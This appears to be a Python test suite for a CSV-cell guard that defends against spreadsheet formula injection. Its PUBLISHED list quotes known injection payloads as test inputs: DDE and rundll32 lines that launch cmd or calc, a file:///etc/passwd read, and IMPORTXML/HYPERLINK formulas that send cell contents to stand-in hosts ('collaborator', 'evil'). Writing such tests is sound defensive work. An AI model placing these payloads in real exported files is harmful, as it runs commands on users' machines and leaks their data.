"""Cells of a CSV: nothing that somebody typed is run by a spreadsheet, and nothing is lost (trust.md 1.7)."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from studyhub.text.cells import csv_text, guarded, is_formula

STARTS = "=+-@|%＝＋－＠｜％﹦﹢﹣﹫﹪⁺₊⁼"
INVISIBLE = [
    "",
    " ",
    "  ",
    "\u00a0",
    "\u3000",
    "\u2028",
    "\ufeff",
    "\u200b",
    " \u200f\u00a0",
    "\t",
    "\r\n",
    "\x00",
]
# What people publish to try this: PayloadsAllTheThings, "CSV Injection", and the words of CVE-2020-13146.
PUBLISHED = [
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "         =         cmd|'/c calc.exe'!A",
    "=IMPORTXML(CONCAT(\"http://collaborator/123.txt?v=\", CONCATENATE(A2:E2)), \"//a/a10\")",
    "='file:///etc/passwd'#$passwd.A1",
    '=HYPERLINK("http://evil/?leak="&A1,"Click")',
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "%0A-3+3+cmd|' /C calc'!D2",
    "|cmd",
    "＝1+1",
]  # fmt: skip


@pytest.mark.parametrize("sign", STARTS)
@pytest.mark.parametrize("before", INVISIBLE)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(sign, before):
    text = f"{before}{sign}1"
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", PUBLISHED)
def test_published_formulas_are_text(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", " ", "a=1", "1-2", "Ünlü", "'=1", "(=1)", "x\ty", "a\n=b", "–", "−5", "·", "{}"]
)
def test_other_text_stays_as_it_is(text):
    assert guarded(text) == text


@pytest.mark.parametrize(
    ("number", "text"),
    [(-5, "-5"), (0, "0"), (-0.5, "-0.5"), (2**70, str(2**70)), (None, ""), (True, "True"),
     (float("inf"), "'inf"), (float("-inf"), "'-inf"), (float("nan"), "'nan")],
)  # fmt: skip
def test_numbers_stay_numbers(number, text):
    assert guarded(number) == text


def visible(text):
    """The first sign that a spreadsheet would look at, found another way than the guard finds it."""
    return next((one for one in text if one.isprintable() and not one.isspace()), "")


@given(st.text())
@example("\x1b[31m=1")
@example("\ud800=1")
def test_no_cell_begins_like_a_formula(text):
    cell = guarded(text)
    assert not is_formula(cell)
    assert cell in {text, f"'{text}"}
    assert visible(cell) not in set(STARTS)
    assert cell[:1] not in {"\t", "\r", "\n"}


cells = st.one_of(st.text(st.characters(exclude_categories=["Cs"])), st.integers(), st.none())


@given(st.lists(st.lists(cells, min_size=2, max_size=4), max_size=4))
def test_whole_table_is_read_back_as_it_was_written(rows):
    """NUL and ends of lines inside of cells too; every cell stands in quotation marks."""
    said = csv_text(rows)
    assert list(csv.reader(io.StringIO(said, newline=""))) == [[guarded(one) for one in row] for row in rows]
    assert said.count('"') >= 2 * sum(map(len, rows))
    assert said == "" or said.endswith('"\r\n')


def test_half_of_a_surrogate_pair_does_not_stop_a_table():
    assert csv_text([["\ud800", "b"]]) == '"?","b"\r\n'
